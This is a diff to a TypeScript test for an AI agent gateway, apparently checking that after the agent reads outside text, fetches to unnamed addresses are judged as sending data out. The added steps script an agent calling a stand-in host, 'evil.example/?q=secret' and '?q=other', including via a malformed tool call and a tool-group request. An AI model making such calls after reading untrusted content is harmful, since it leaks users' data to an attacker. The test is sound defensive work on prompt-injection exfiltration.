@@ -399,7 +399,16 @@ test('after outside text was read, an address that nobody named is a message: it
   const url = (of: string, n: number): Step[] => calling(call('fetch', { url: `https://${of}` }, `c${n}`));
   const gateway = await path(
     t,
-    [url('a.example', 1), url('a.example/more', 2), url('evil.example/?q=secret', 3), answering('ok')],
+    [
+      url('a.example', 1),
+      url('a.example/more', 2),
+      url('evil.example/?q=secret', 3),
+      // What it wrote itself comes back in the words of a failure, and is no less its own.
+      calling(call('https://evil.example/?q=other', {}, 'c4'), call('use_tools', { groups: ['https://evil.example'] })),
+      url('evil.example/?q=other', 5),
+      url('evil.example', 6),
+      answering('ok'),
+    ],
     [fetching],
     {
       gate: {
@@ -412,5 +421,7 @@ test('after outside text was read, an address that nobody named is a message: it
     },
   );
   await ask(gateway, 'read https://a.example');
-  assert.deepEqual(judged, [['read'], ['read'], ['read', 'send']]);
+  const named = ['read'];
+  const invented = ['read', 'send'];
+  assert.deepEqual(judged, [named, named, invented, invented, invented]);
 });
